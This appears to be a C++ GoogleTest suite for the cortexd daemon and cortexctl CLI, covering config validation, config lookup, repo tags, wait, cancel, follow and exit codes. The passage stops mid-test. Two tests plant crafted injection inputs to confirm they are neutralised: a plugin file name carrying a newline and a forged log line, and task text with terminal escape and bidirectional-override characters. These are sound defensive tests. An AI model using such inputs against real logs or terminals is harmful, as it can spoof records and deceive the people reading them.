// The CLI and config contract of issue 10, end to end through cortexd and cortexctl as a
// user runs them: --check-config and --print-config, config lookup, repo tags, wait,
// cancel, follow, prefixes, exit codes, completion, and the smaller promises.
#include <fcntl.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>
#include <thread>

#include "cortex/client.h"
#include "testutil.h"

namespace cortex {
namespace {

using test::Daemon;
using test::TempDir;
using json = nlohmann::json;
namespace fs = std::filesystem;

std::string Cortexd() { return test::BinDir() + "/cortexd"; }
std::string Cortexctl() { return test::BinDir() + "/cortexctl"; }

// A forced, slow expert (one slot) and a quick one: tasks that can be waited for,
// queued behind another, and cancelled.
const char* kSlowExperts = R"(experts:
  - name: slow
    plugin: command
    run: ["sleep", "30"]
    keywords: ["slow"]
    capacity: 1
    timeout: 60s
  - name: quick
    plugin: command
    run: ["/bin/sh", "-c", "cat >/dev/null; echo done"]
    keywords: ["quick"]
  - name: parrot
    plugin: command
    run: ["cat"]
    keywords: ["parrot"]
rules:
  - name: slow-only
    match: ["slow"]
    expert: slow
    force: true
)";

TEST(CliTest, CheckConfigReportsEveryErrorThatAStartRefuses) {
  TempDir dir;
  const std::string cfg = dir / "bad.yaml";
  test::WriteFile(cfg, "daemon: {socket: " + (dir / "run/s.sock") +
                           ", workerz: 2}\nstore: {path: " + (dir / "data/c.db") +
                           "}\nplugins: {dir: " + (dir / "plugins") +
                           "}\n"
                           "rules:\n"
                           "  - {name: backref, match: [\"/(a)\\\\1/\"], expert: ci, boost: 0.2}\n"
                           "  - {name: ghost, match: [ghost], expert: nosuchexpert, boost: 0.1}\n"
                           "experts:\n"
                           "  - {name: ci, plugin: command}\n"
                           "  - {name: other, plugin: nosuchplugin}\n"
                           "  - {name: typo, plugin: command, run: [\"true\"], tiemout: 5s}\n"
                           "  - {name: twice, plugin: command, capacity: 0, timeout: -5s}\n"
                           "  - {name: last, plugin: command, run: [\"true\"], bogus: 1}\n"
                           "  - {name: BAD!, plugin: command, capacity: 0}\n");
  // One run reports every error: those of the file itself and those of the later checks
  // (rules, plugins, experts' settings) on what did parse.
  test::Run r = test::RunCmd({Cortexd(), "--check-config", "--config", cfg});
  EXPECT_EQ(r.code, 1) << r.out << r.err;
  // Every error, in the file's line order.
  const std::vector<std::string> every = {
      "daemon.workerz: unknown key", "rules.backref.match: bad regular expression",
      "experts[0]: run: is required", "experts[1].plugin: no plugin named 'nosuchplugin'",
      "experts[2].tiemout: unknown key for plugin 'command'",
      "experts[3].capacity: must be between 1 and 1024", "experts[3].timeout: duration must be",
      // its place in the file, whatever came before
      "experts[4].bogus: unknown key for plugin 'command'",
      // a bad name is not the expert's only error
      "experts[5].name: must be 1-64 characters",
      "experts[5].capacity: must be between 1 and 1024"};
  auto in_order = [&](const std::string& err) {
    size_t at = 0;
    for (const auto& want : every) {
      size_t p = err.find(want);
      EXPECT_NE(p, std::string::npos) << want << "\n" << err;
      if (p == std::string::npos) return;
      EXPECT_GE(p, at) << want << " is out of the file's order\n" << err;
      at = p;
    }
  };
  in_order(r.err);
  for (const char* want : {"warning: " /* the rule naming an expert that is not loaded */,
                           "rule 'ghost' (line 6) names expert 'nosuchexpert'"})
    EXPECT_NE(r.err.find(want), std::string::npos) << want << "\n" << r.err;
  EXPECT_EQ(r.out.find(": ok"), std::string::npos);
  // A start refuses it naming the same errors, every one, not only the first it meets.
  r = test::RunCmd({Cortexd(), "--foreground", "--config", cfg}, 60);
  EXPECT_EQ(r.code, 1) << r.err;
  in_order(r.err);
  std::string text = test::ReadFile(cfg);
  text.replace(text.find(", workerz: 2"), 12, "");
  text.replace(text.find("  - {name: twice, plugin: command, capacity: 0, timeout: -5s}\n"), 62,
               "");
  text.replace(text.find(", bogus: 1}"), 11, "}");
  text.replace(text.find("  - {name: BAD!, plugin: command, capacity: 0}\n"), 46, "");
  test::WriteFile(cfg, text);
  // A start refuses the same config.
  r = test::RunCmd({Cortexd(), "--foreground", "--config", cfg}, 60);
  EXPECT_EQ(r.code, 1) << r.err;
  EXPECT_FALSE(fs::exists(dir / "run/s.sock"));

  // Fixed, it is approved; the rule naming a missing expert stays a warning (a plugin
  // dropped in later makes it fire).
  text = test::ReadFile(cfg);
  text.replace(text.find("\"/(a)\\\\1/\""), 10, "\"/(a)+/\"");
  text.replace(text.find("{name: ci, plugin: command}"), 27,
               "{name: ci, plugin: command, run: [\"true\"]}");
  text.replace(text.find("  - {name: other, plugin: nosuchplugin}\n"), 40, "");
  text.replace(text.find("tiemout"), 7, "timeout");
  test::WriteFile(cfg, text);
  r = test::RunCmd({Cortexd(), "--check-config", "--config", cfg});
  EXPECT_EQ(r.code, 0) << text << r.err;
  EXPECT_NE(r.out.find(cfg + ": ok"), std::string::npos) << r.out;
  EXPECT_NE(r.err.find("warning: " + cfg), std::string::npos) << r.err;
  // A config file that cannot be read says why.
  r = test::RunCmd({Cortexd(), "--check-config", "--config", dir / "missing.yaml"});
  EXPECT_EQ(r.code, 1);
  EXPECT_NE(r.err.find("No such file or directory"), std::string::npos) << r.err;
  r = test::RunCmd({Cortexd(), "--check-config", "--config", dir.path()});
  EXPECT_EQ(r.code, 1);
  EXPECT_NE(r.err.find("Is a directory"), std::string::npos) << r.err;
  // A FIFO or a device would be read forever: refused at once.
  ASSERT_EQ(mkfifo((dir / "fifo.yaml").c_str(), 0600), 0);
  for (const std::string& f : {dir / "fifo.yaml", std::string("/dev/zero")}) {
    r = test::RunCmd({Cortexd(), "--check-config", "--config", f}, 20);
    EXPECT_EQ(r.code, 1) << f;
    EXPECT_NE(r.err.find("not a regular file"), std::string::npos) << r.err;
  }
  // What a start refuses of the paths themselves, the check refuses too: a socket path
  // too long for a Unix socket, a store path that is a folder.
  test::WriteFile(dir / "paths.yaml", "daemon: {socket: " + dir.path() + "/" +
                                          std::string(120, 's') + "}\nstore: {path: " + dir.path() +
                                          "}\n");
  r = test::RunCmd({Cortexd(), "--check-config", "--config", dir / "paths.yaml"});
  EXPECT_EQ(r.code, 1) << r.out << r.err;
  EXPECT_NE(r.err.find("daemon.socket: the path is too long"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("store.path: " + dir.path() + " is not a regular file"), std::string::npos)
      << r.err;
  // A duration beyond a century is a typo.
  test::WriteFile(dir / "long.yaml", "daemon: {idle_timeout: 99999999999999999d}\n");
  r = test::RunCmd({Cortexd(), "--check-config", "--config", dir / "long.yaml"});
  EXPECT_EQ(r.code, 1);
  EXPECT_NE(r.err.find("duration too long"), std::string::npos) << r.err;
}

// An error in one field of a rule or an expert hides no other error of it: a rule with a
// bad boost still has its patterns compiled, an expert with a bad capacity still has its
// plugin's settings checked, and each error names the line it is on.
TEST(CliTest, CheckConfigReportsEveryErrorOfOneEntry) {
  TempDir dir;
  const std::string cfg = dir / "entry.yaml";
  test::WriteFile(cfg, "daemon: {socket: " + (dir / "run/s.sock") +
                           "}\nstore: {path: " + (dir / "data/c.db") +
                           "}\n"
                           "rules:\n"
                           "  - name: r2\n"
                           "    match: [ok, \"/a{99999}/\"]\n"
                           "    expert: inventory\n"
                           "    boost: notanumber\n"
                           "experts:\n"
                           "  - name: cmd\n"
                           "    plugin: command\n"
                           "    runn: [\"true\"]\n"
                           "    capacity: many\n");
  test::Run r = test::RunCmd({Cortexd(), "--check-config", "--config", cfg});
  EXPECT_EQ(r.code, 1) << r.err;
  size_t at = 0;
  for (const std::string& want :
       {cfg + ":5: rules.r2.match: bad regular expression /a{99999}/",
        cfg + ":7: rules[0].boost: expected a number", cfg + ":11: experts[0].runn: unknown key",
        cfg + ":12: experts[0].capacity: expected an integer"}) {
    const size_t p = r.err.find(want);
    ASSERT_NE(p, std::string::npos) << want << "\n" << r.err;
    EXPECT_GE(p, at) << want << " is out of the file's order\n" << r.err;
    at = p;
  }
}

TEST(CliTest, EffectiveConfigDefaultLocationAndUserRulesAddToBuiltIns) {
  TempDir dir;
  // $XDG_CONFIG_HOME/cortex/cortex.yaml is read without --config; its relative paths are
  // its neighbours, wherever cortexd is started from.
  const std::string cfg = dir / "xdg/cortex/cortex.yaml";
  test::WriteFile(cfg,
                  "daemon: {socket: run/s.sock, workers: 3}\nstore: {path: data/c.db}\n"
                  "plugins: {dir: plugins}\nrouter: {exploration: 0}\n"
                  "rules:\n  - {name: mine, match: [frobnicate], expert: inventory, boost: 0.4}\n"
                  "experts:\n  - {name: here, plugin: command, run: [pwd], cwd: work, "
                  "keywords: [where]}\n");
  fs::create_directories(dir / "xdg/cortex/work");
  std::vector<std::string> env = test::BaseEnv();
  env.push_back("XDG_CONFIG_HOME=" + dir / "xdg");
  env.push_back("XDG_DATA_HOME=" + dir / "data-home");
  env.push_back("XDG_RUNTIME_DIR=" + dir / "rt");
  test::Run r = test::RunCmd({Cortexd(), "--print-config"}, 60, "", env, "/");
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_NE(r.out.find("effective configuration of " + cfg), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("workers: 3"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("path: " + dir / "xdg/cortex/data/c.db"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("max_queued: 100000"), std::string::npos) << r.out;    // a default
  EXPECT_NE(r.out.find("name: security-terms"), std::string::npos) << r.out;  // built in
  EXPECT_NE(r.out.find("name: mine"), std::string::npos) << r.out;
  // An expert's working folder is the file's neighbour too.
  EXPECT_NE(r.out.find("cwd: " + dir / "xdg/cortex/work"), std::string::npos) << r.out;
  // What the file leaves to the plugin is filled in from the plugin: defaults, filled in.
  const std::string here = r.out.substr(r.out.find("name: here"));
  EXPECT_NE(here.find("capacity: 4"), std::string::npos) << here;
  EXPECT_NE(here.find("timeout: 10m"), std::string::npos) << here;
  EXPECT_NE(here.find("description: "), std::string::npos) << here;
  // What it prints loads back as the same configuration.
  const std::string printed = dir / "printed.yaml";
  test::WriteFile(printed, r.out);
  test::Run again = test::RunCmd({Cortexd(), "--print-config", "--config", printed});
  ASSERT_EQ(again.code, 0) << again.err;
  EXPECT_EQ(again.out.substr(again.out.find('\n')), r.out.substr(r.out.find('\n')));

  // Started from "/", it finds the file, and `status` names it and the plugin folder.
  auto start_in_root = [&] {
    pid_t child = fork();
    if (child == 0) {
      std::vector<std::string> args = {Cortexd(), "--foreground"};
      std::vector<char*> argv, envp;
      for (auto& a : args) argv.push_back(a.data());
      argv.push_back(nullptr);
      for (auto& e : env) envp.push_back(e.data());
      envp.push_back(nullptr);
      if (chdir("/") != 0) _exit(126);
      int null = open("/dev/null", O_WRONLY);
      dup2(null, 2);
      execve(argv[0], argv.data(), envp.data());
      _exit(127);
    }
    return child;
  };
  pid_t pid = start_in_root();
  const std::string sock = dir / "xdg/cortex/run/s.sock";
  json st;
  ASSERT_TRUE(test::Eventually([&] {
    st = test::Ctl(sock, {"status", "--json"}).Json();
    return st.is_object() && st.contains("config");
  }));
  EXPECT_EQ(st["config"], cfg);
  EXPECT_EQ(st["plugin_dir"], dir / "xdg/cortex/plugins");
  EXPECT_EQ(st["store"], dir / "xdg/cortex/data/c.db");
  EXPECT_EQ(st["rules"], 3);  // two built in, one of the user's
  r = test::Ctl(sock, {"status"});
  EXPECT_NE(r.out.find("plugins:   " + dir / "xdg/cortex/plugins"), std::string::npos) << r.out;
  json route = test::Ctl(sock, {"route", "frobnicate the widgets", "--json"}).Json();
  EXPECT_EQ(route["candidates"][0]["expert"], "inventory") << route;
  json w = test::Ctl(sock, {"submit", "where am i", "--wait", "--json"}).Json();
  EXPECT_EQ(w["expert"], "here") << w;
  EXPECT_EQ(w["attempts"][0]["outcome"]["output"], dir / "xdg/cortex/work\n") << w;
  kill(pid, SIGTERM);
  int status = 0;
  waitpid(pid, &status, 0);
  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0);
  // Its private plugin copies went with it.
  for (const auto& e : fs::directory_iterator(dir / "xdg/cortex/run"))
    EXPECT_EQ(e.path().filename().string().rfind("plugin-cache.", 0), std::string::npos)
        << e.path();

  // Started with no file there, it runs on the defaults; a file written there since is
  // read by the next reload.
  fs::rename(cfg, cfg + ".away");
  pid = start_in_root();
  const std::string default_sock = dir / "rt/cortex/cortexd.sock";
  ASSERT_TRUE(test::Eventually([&] {
    st = test::Ctl(default_sock, {"status", "--json"}).Json();
    return st.is_object() && st.contains("config");
  }));
  EXPECT_EQ(st["config"], "<embedded defaults>");
  test::WriteFile(cfg, "experts:\n  - {name: late, plugin: command, run: [\"true\"]}\n");
  r = test::Ctl(default_sock, {"reload"});
  EXPECT_EQ(r.code, 0) << r.err;
  EXPECT_EQ(test::Ctl(default_sock, {"status", "--json"}).Json()["config"], cfg);
  json experts = test::Ctl(default_sock, {"experts", "--json"}).Json();
  bool late = false;
  for (const auto& e : experts) late |= e["name"] == "late";
  EXPECT_TRUE(late) << experts;
  kill(pid, SIGTERM);
  waitpid(pid, &status, 0);
  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0);
}

TEST(CliTest, RepoTagsAreAbsoluteAndAddedInsideAGitWorkTree) {
  TempDir dir;
  Daemon d(dir, "router: {exploration: 0, seed: 1, max_attempts: 3}\n", "");
  ASSERT_TRUE(d.Start()) << d.Log();
  const std::string repo = dir / "repo";
  fs::create_directories(repo + "/src/deep");
  test::WriteFile(repo + "/src/main.py", "print('hi')\n");
  ASSERT_EQ(test::RunCmd({"git", "init", "-q", repo}).code, 0);
  auto ctl = [&](std::vector<std::string> args, const std::string& cwd,
                 const std::string& in = "") {
    std::vector<std::string> argv = {Cortexctl(), "--socket", d.socket};
    argv.insert(argv.end(), args.begin(), args.end());
    return test::RunCmd(argv, 60, in, test::BaseEnv(), cwd);
  };
  // From a folder deep inside the work tree: repo=<top level>, and the inventory works.
  test::Run r = ctl({"submit", "catalog the languages", "--wait", "--json"}, repo + "/src/deep");
  ASSERT_EQ(r.code, 0) << r.err;
  json w = r.Json();
  EXPECT_EQ(w["tags"]["repo"], repo) << w;
  EXPECT_EQ(w["expert"], "inventory") << w;
  // --no-repo: no tag; a given repo= wins; a relative one is the caller's, made absolute.
  w = ctl({"submit", "catalog the languages", "--no-repo", "--json"}, repo + "/src").Json();
  EXPECT_FALSE(w.contains("tags") && w["tags"].contains("repo")) << w;
  json shown = d.CtlJson({"show", w["id"]});
  EXPECT_FALSE(shown["tags"].contains("repo")) << shown;
  w = ctl({"submit", "catalog", "--tag", "repo=..", "--wait", "--json"}, repo + "/src/deep").Json();
  EXPECT_EQ(w["tags"]["repo"], repo + "/src") << w;
  w = ctl({"route", "catalog the languages", "--json"}, repo).Json();
  EXPECT_EQ(w["candidates"][0]["expert"], "inventory") << w;
  // The repo tag in any case is the repo tag: sent as `repo` (what every expert reads),
  // no second one added, a relative path made absolute.
  r = ctl({"submit", "catalog", "--tag", "REPO=..", "--json"}, repo + "/src/deep");
  ASSERT_EQ(r.code, 0) << r.err;
  w = d.CtlJson({"show", r.Json()["id"]});
  EXPECT_EQ(w["tags"], json({{"repo", repo + "/src"}})) << w;
  // Keys an expert could not tell apart are one key given twice: a usage error here, and
  // refused by cortexd from any other client.
  r = ctl({"submit", "x", "--tag", "Repo=/a", "--tag", "repo=/b"}, "/");
  EXPECT_EQ(r.code, 2) << r.err;
  EXPECT_NE(r.err.find("given twice"), std::string::npos) << r.err;
  r = ctl({"submit", "x", "--tag", "team-a=1", "--tag", "TEAM_A=2"}, "/");
  EXPECT_EQ(r.code, 2) << r.err;
  {
    cortex::Client c;
    json resp;
    ASSERT_TRUE(c.Connect(d.socket).ok());
    ASSERT_TRUE(
        c.Call({{"op", "submit"}, {"text", "x"}, {"tags", {{"x", "1"}, {"X", "2"}}}}, &resp).ok());
    EXPECT_FALSE(resp.value("ok", true)) << resp;
    EXPECT_NE(resp.dump().find("differ only in case"), std::string::npos) << resp;
    // From any client, the repo tag in any case is `repo`, and its path must be absolute.
    ASSERT_TRUE(
        c.Call({{"op", "route"}, {"text", "x"}, {"tags", {{"REPO", "relative/x"}}}}, &resp).ok());
    EXPECT_FALSE(resp.value("ok", true)) << resp;
    EXPECT_NE(resp.dump().find("tag repo must be an absolute path"), std::string::npos) << resp;
    ASSERT_TRUE(c.Call({{"op", "submit"}, {"text", "x"}, {"tags", {{"Repo", repo}}}}, &resp).ok());
    ASSERT_TRUE(resp.value("ok", false)) << resp;
    EXPECT_EQ(d.CtlJson({"show", resp["result"]["id"]})["tags"], json({{"repo", repo}}));
  }
  // A work tree git refuses (another user's): the task goes without the tag, and a note
  // says why.
  {
    std::vector<std::string> env = test::BaseEnv();
    env.push_back("GIT_TEST_ASSUME_DIFFERENT_OWNER=1");
    r = test::RunCmd({Cortexctl(), "--socket", d.socket, "submit", "catalog", "--json"}, 60, "",
                     env, repo);
    ASSERT_EQ(r.code, 0) << r.err;
    EXPECT_FALSE(d.CtlJson({"show", r.Json()["id"]})["tags"].contains("repo")) << r.out;
    EXPECT_NE(r.err.find("note: no repo tag added: git refuses the work tree at " + repo),
              std::string::npos)
        << r.err;
    EXPECT_NE(r.err.find("dubious ownership"), std::string::npos) << r.err;
  }

  // Outside any work tree, with no repo: the message names every expert tried and what
  // it needs.
  r = ctl({"submit", "fix the login bug", "--wait"}, "/");
  EXPECT_EQ(r.code, 1);
  EXPECT_NE(r.err.find("no expert could take it"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("inventory"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("security"), std::string::npos) << r.err;
  EXPECT_NE(r.err.find("tag repo=PATH"), std::string::npos) << r.err;

  // `submit -` reads the text from stdin.
  r = ctl({"submit", "-", "--json"}, "/", "catalog from stdin\n");
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_EQ(d.CtlJson({"show", r.Json()["id"]})["text"], "catalog from stdin");
  // Empty text is a usage error however it comes, with one message.
  for (const auto& [args, in] :
       std::vector<std::pair<std::vector<std::string>, std::string>>{{{"submit", "-"}, ""},
                                                                     {{"submit", "-"}, "\n"},
                                                                     {{"submit", ""}, ""},
                                                                     {{"route", ""}, ""},
                                                                     {{"submit", "  "}, ""}}) {
    r = ctl(args, "/", in);
    EXPECT_EQ(r.code, 2) << args[0] << ": " << r.err;
    EXPECT_EQ(r.err, "cortexctl: the task text is empty: a task needs a line of text\n");
  }
}

TEST(CliTest, ADetachedDaemonLeavesItsStartingFolder) {
  TempDir dir;
  Daemon d(dir);  // for its config only
  const std::string cfg_rel = "cortex.yaml";
  test::Run r = test::RunCmd({Cortexd(), "--config", cfg_rel, "--log-file", "cortexd.log"}, 60, "",
                             test::BaseEnv(), dir.path());
  ASSERT_EQ(r.code, 0) << r.err;
  json st;
  ASSERT_TRUE(test::Eventually([&] {
    st = d.CtlJson({"status"});
    return st.is_object() && st.contains("pid");
  }));
  const int pid = st["pid"].get<int>();
  EXPECT_EQ(fs::read_symlink("/proc/" + std::to_string(pid) + "/cwd"), "/");
  EXPECT_EQ(st["config"], dir / "cortex.yaml");  // made absolute before it left
  // SIGHUP re-reads the same file from "/".
  kill(pid, SIGHUP);
  EXPECT_TRUE(test::Eventually(
      [&] { return test::ReadFile(dir / "cortexd.log").find("reloaded") != std::string::npos; }));
  kill(pid, SIGTERM);
  EXPECT_TRUE(test::Eventually([&] { return kill(pid, 0) != 0; }));
}

TEST(CliTest, WaitCancelPrefixesAndFollow) {
  TempDir dir;
  Daemon d(dir, kSlowExperts);
  ASSERT_TRUE(d.Start()) << d.Log();
  // `cortexctl COMMAND --follow` in the background, its output into `out`.
  auto follow = [&](const char* command, const std::string& out, const char* limit = "20") {
    pid_t pid = fork();
    if (pid == 0) {
      FILE* f = freopen(out.c_str(), "w", stdout);
      (void)f;
      execl(Cortexctl().c_str(), Cortexctl().c_str(), "--socket", d.socket.c_str(), command,
            "--follow", "--limit", limit, (char*)nullptr);
      _exit(127);
    }
    return pid;
  };
  // Tasks that ended before a follower started are not news: with --limit 1 it shows the
  // newest, then only tasks that end later, also one created before it started.
  std::vector<std::string> old_ids;
  for (int i = 0; i < 3; ++i)
    old_ids.push_back(d.CtlJson({"submit", "quick old " + std::to_string(i), "--wait"})["id"]);
  const std::string long_running = d.CtlJson({"submit", "slow from before"})["id"];
  ASSERT_TRUE(d.WaitStatus([](const json& s) { return s["inflight"] == 1; }));
  const std::string paged_out = dir / "paged.txt";
  const pid_t paged = follow("history", paged_out, "1");
  ASSERT_TRUE(test::Eventually(
      [&] { return test::ReadFile(paged_out).find(long_running) != std::string::npos; }));
  sleep(2);  // (a few polls: the old bug printed the rest of the log on the first)
  EXPECT_EQ(d.Ctl({"cancel", long_running}).code, 0);
  const std::string fresh = d.CtlJson({"submit", "quick fresh", "--wait"})["id"];
  EXPECT_TRUE(test::Eventually([&] {
    return test::ReadFile(paged_out).find(fresh) != std::string::npos;
  })) << test::ReadFile(paged_out);
  {
    const std::string out = test::ReadFile(paged_out);
    for (const auto& old : old_ids) EXPECT_EQ(out.find(old), std::string::npos) << out;
    // The long-running task: on the first page, and again when it ended.
    const size_t first = out.find(long_running);
    EXPECT_NE(out.find(long_running, first + 1), std::string::npos) << out;
    EXPECT_NE(out.find("cancelled"), std::string::npos) << out;
  }
  kill(paged, SIGTERM);
  waitpid(paged, nullptr, 0);
  // history --follow, started now, prints what happens next.
  const std::string follow_out = dir / "follow.txt";
  const pid_t follower = follow("history", follow_out);

  const std::string a = d.Ctl({"submit", "slow one"}).out.substr(0, 12);
  const std::string b = d.Ctl({"submit", "slow two"}).out.substr(0, 12);
  ASSERT_EQ(a.size(), 12u);
  ASSERT_TRUE(d.WaitStatus([](const json& s) { return s["inflight"] == 1; }));
  // wait: exit 4 when it runs past the timeout.
  test::Run r = d.Ctl({"wait", a.substr(0, 5), "--timeout", "0.3"});
  EXPECT_EQ(r.code, 4) << r.err;
  EXPECT_NE(r.err.find("still running"), std::string::npos) << r.err;
  // Prefixes: 4 characters or more; too short or unknown are errors.
  EXPECT_EQ(d.CtlJson({"show", a.substr(0, 4)})["id"], a);
  // Copied in upper case (ids are lowercase hex), a prefix still finds its task.
  std::string upper = a.substr(0, 6);
  for (char& c : upper) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
  EXPECT_EQ(d.CtlJson({"show", upper})["id"], a);
  r = d.Ctl({"show", a.substr(0, 3)});
  EXPECT_EQ(r.code, 2);  // usage: said before the daemon is asked
  EXPECT_NE(r.err.find("at least 4 characters"), std::string::npos) << r.err;
  EXPECT_EQ(d.Ctl({"show", "zzzzzz"}).code, 1);

  // b is queued behind a (one slot): cancelled, it never runs.
  r = d.Ctl({"cancel", b.substr(0, 6)});
  EXPECT_EQ(r.code, 0) << r.err;
  EXPECT_NE(r.out.find(b + " cancelled"), std::string::npos) << r.out;
  json tb = d.CtlJson({"show", b});
  EXPECT_EQ(tb["state"], "cancelled");
  EXPECT_TRUE(tb["attempts"].empty()) << tb;
  // a is running: its expert is stopped, well before its 30 s.
  r = d.Ctl({"cancel", a});
  EXPECT_EQ(r.code, 0) << r.err;
  json ta = d.CtlJson({"show", a});
  EXPECT_EQ(ta["state"], "cancelled");
  ASSERT_EQ(ta["attempts"].size(), 1u) << ta;
  EXPECT_LT(ta["attempts"][0]["outcome"]["duration_s"].get<double>(), 20.0);
  // Once ended, a task cannot be cancelled again.
  r = d.Ctl({"cancel", a});
  EXPECT_EQ(r.code, 1);
  EXPECT_NE(r.err.find("has already ended: cancelled"), std::string::npos) << r.err;
  // history --outcome knows every kind.
  json h = d.CtlJson({"history", "--outcome", "cancelled"});
  EXPECT_EQ(h.size(), 3u) << h;  // (with the one cancelled above)
  EXPECT_EQ(h[0]["outcome"], "cancelled");
  // wait on a finished task returns at once with its outcome.
  json q = d.CtlJson({"submit", "quick thing", "--wait"});
  EXPECT_EQ(d.Ctl({"wait", q["id"].get<std::string>().substr(0, 8)}).code, 0);
  EXPECT_EQ(d.CtlJson({"history", "--outcome", "success"}).size(), 5u);
  EXPECT_EQ(d.CtlJson({"history", "--outcome", "timeout"}).size(), 0u);

  // submit --wait that runs out: the id on stdout (ID=$(cortexctl submit ...) works), the
  // message on stderr; --json has it in the document.
  r = d.Ctl({"submit", "slow to wait for", "--wait", "--timeout", "0.2"});
  EXPECT_EQ(r.code, 4) << r.err;
  ASSERT_EQ(r.out.size(), 13u) << r.out;
  const std::string waited = r.out.substr(0, 12);
  EXPECT_NE(r.err.find("task " + waited + " is still"), std::string::npos) << r.err;
  r = d.Ctl({"submit", "slow to wait for too", "--wait", "--timeout", "0.2", "--json"});
  EXPECT_EQ(r.code, 4) << r.err;
  const std::string waited2 = r.Json().value("id", "");
  EXPECT_EQ(waited2.size(), 12u) << r.out;
  // wait --timeout -0 is 0 seconds.
  r = d.Ctl({"wait", waited, "--timeout", "-0"});
  EXPECT_EQ(r.code, 4) << r.err;
  EXPECT_NE(r.err.find("after 0s"), std::string::npos) << r.err;
  EXPECT_EQ(d.Ctl({"cancel", waited}).code, 0);
  EXPECT_EQ(d.Ctl({"cancel", waited2}).code, 0);

  // The follower printed each task as it ended.
  EXPECT_TRUE(test::Eventually([&] {
    std::string out = test::ReadFile(follow_out);
    return out.find(a) != std::string::npos && out.find(b) != std::string::npos &&
           out.find(q["id"].get<std::string>()) != std::string::npos;
  })) << test::ReadFile(follow_out);

  // events --follow prints a plugin loaded after it started, and with --limit 1 none of
  // the events before the newest one. A file name cannot forge a line.
  const std::string events_out = dir / "events.txt";
  const pid_t ev = follow("events", events_out, "1");
  EXPECT_TRUE(test::Eventually([&] { return !test::ReadFile(events_out).empty(); }));
  sleep(2);  // (a few polls)
  const std::string evil = "echo\n2026-01-01 00:00:00  loaded    forged       x.so";
  fs::copy_file(std::string(CORTEX_TEST_PLUGIN_DIR) + "/echo.so", d.plugin_dir + "/" + evil);
  EXPECT_TRUE(test::Eventually([&] {
    return test::ReadFile(events_out).find("echo\\n2026") != std::string::npos;
  })) << test::ReadFile(events_out);
  kill(ev, SIGTERM);
  waitpid(ev, nullptr, 0);
  {
    std::istringstream lines(test::ReadFile(events_out));
    std::string line;
    int n = 0, echo = 0;
    while (std::getline(lines, line)) {
      ++n;
      echo += line.find("echo") != std::string::npos;
      if (line.find("forged") != std::string::npos) {
        EXPECT_NE(line.find("echo\\n2026"), std::string::npos) << line;
      }
    }
    EXPECT_EQ(n, 1 + echo) << test::ReadFile(events_out);
    EXPECT_GE(echo, 1);
  }

  // A stop with a task running says what it waits for.
  d.Ctl({"submit", "slow again"});
  ASSERT_TRUE(d.WaitStatus([](const json& s) { return s["inflight"] == 1; }));
  EXPECT_EQ(d.Stop(), 0);
  EXPECT_NE(d.Log().find("stopping: waiting up to 2s (daemon.shutdown_grace) for 1 running"),
            std::string::npos)
      << d.Log();
  // history --follow waited through the stop and follows the next cortexd.
  ASSERT_TRUE(d.Start()) << d.Log();
  const std::string after = d.CtlJson({"submit", "quick after restart", "--wait"})["id"];
  EXPECT_TRUE(test::Eventually([&] {
    return test::ReadFile(follow_out).find(after) != std::string::npos;
  })) << test::ReadFile(follow_out);
  EXPECT_EQ(waitpid(follower, nullptr, WNOHANG), 0) << "the follower is still running";
  kill(follower, SIGTERM);
  waitpid(follower, nullptr, 0);
}

// JSON and CSV keep task text exact when redirected; on a terminal nothing in it may act
// on the screen (JSON escapes non-ASCII there, CSV shows it as human output does).
TEST(CliTest, MachineFormatsAreExactRedirectedAndSafeOnATerminal) {
  if (access("/usr/bin/script", X_OK) != 0)
    GTEST_SKIP() << "needs script(1) (util-linux) to give cortexctl a terminal";
  TempDir dir;
  Daemon d(dir);
  ASSERT_TRUE(d.Start()) << d.Log();
  const std::string text = "a \x1b[31mred \xe2\x80\xaeRTL \xc2\x9b end";
  test::Run r = d.Ctl({"submit", text, "--no-repo"});
  ASSERT_EQ(r.code, 0) << r.err;
  const std::string id = r.out.substr(0, r.out.find('\n'));
  EXPECT_EQ(d.CtlJson({"show", id})["text"], text);  // redirected: exact
  for (const std::vector<std::string>& args : {std::vector<std::string>{"--json", "show", id},
                                               {"export", "--format", "csv"},
                                               {"export"}}) {
    std::string cmd = Cortexctl() + " --socket " + d.socket;
    for (const auto& a : args) cmd += " " + a;
    test::Run tty = test::RunCmd({"/usr/bin/script", "-qec", cmd, "/dev/null"});
    ASSERT_EQ(tty.code, 0) << cmd << "\n" << tty.out << tty.err;
    EXPECT_NE(tty.out.find("red"), std::string::npos) << tty.out;
    for (const char* raw : {"\x1b[31m", "\xe2\x80\xae", "\xc2\x9b"})
      EXPECT_EQ(tty.out.find(raw), std::string::npos) << cmd << "\n" << tty.out;
  }
}

TEST(CliTest, UnixConventions) {
  TempDir dir;
  Daemon d(dir, kSlowExperts);
  ASSERT_TRUE(d.Start()) << d.Log();
  for (const std::string& bin : {Cortexd(), Cortexctl()}) {
    test::Run r = test::RunCmd({bin, "--version"});
    EXPECT_EQ(r.code, 0);
    EXPECT_EQ(r.out, fs::path(bin).filename().string() + " 0.1.0\n");
  }
  EXPECT_EQ(d.CtlJson({"--version"})["version"], "0.1.0");
  test::Run r = d.Ctl({"help"});
  EXPECT_EQ(r.code, 0);
  EXPECT_NE(r.out.find("completion"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("Exit status: 0 ok"), std::string::npos) << r.out;
  // Under --json, help too is one JSON document.
  EXPECT_EQ(d.Ctl({"--json", "help", "cancel"}).Json()["help"], d.Ctl({"help", "cancel"}).out);
  r = d.Ctl({"help", "cancel"});
  EXPECT_EQ(r.code, 0);
  EXPECT_NE(r.out.find("Usage: cortexctl cancel [OPTIONS] ID"), std::string::npos) << r.out;
